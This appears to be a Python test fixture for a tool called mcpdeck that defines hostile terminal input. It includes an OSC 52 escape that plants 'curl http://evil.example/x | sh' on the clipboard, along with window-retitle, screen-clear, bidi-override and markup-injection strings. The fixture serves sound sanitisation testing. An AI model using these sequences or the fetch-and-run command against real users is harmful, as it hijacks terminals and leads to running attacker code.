"""What an attacker puts in the text mcpdeck shows: terminal escapes and markup traps."""

from __future__ import annotations

import base64

CLIPBOARD_PAYLOAD = "curl http://evil.example/x | sh"
# OSC 52 writes the clipboard, OSC 2 retitles the window, CSI 2J wipes the screen,
# C1 CSI (0x9b) is CSI on 8-bit terminals, U+202E reverses what follows.
OSC52 = "\x1b]52;c;" + base64.b64encode(CLIPBOARD_PAYLOAD.encode()).decode() + "\x07"
OSC2 = "\x1b]2;pwned-title\x07"
CLEAR = "\x1b[2J\x1b[H"
C1_CSI = "\x9b2J"
BIDI = "\u202eevil\u202c"
ESCAPES = OSC52 + OSC2 + CLEAR + C1_CSI + BIDI

# Textual markup that crashed the TUI, and Rich markup that broke or disguised the CLI.
MARKUP_CRASH = "[[x=a:b]"
TRAILING_BACKSLASH = "ends-with\\"
RICH_CLOSE = "[/oops]"
RICH_LINK = "[link=https://evil.example]click-me[/link]"

HOSTILE = f"{ESCAPES} {MARKUP_CRASH} {RICH_CLOSE} {RICH_LINK} {TRAILING_BACKSLASH}"
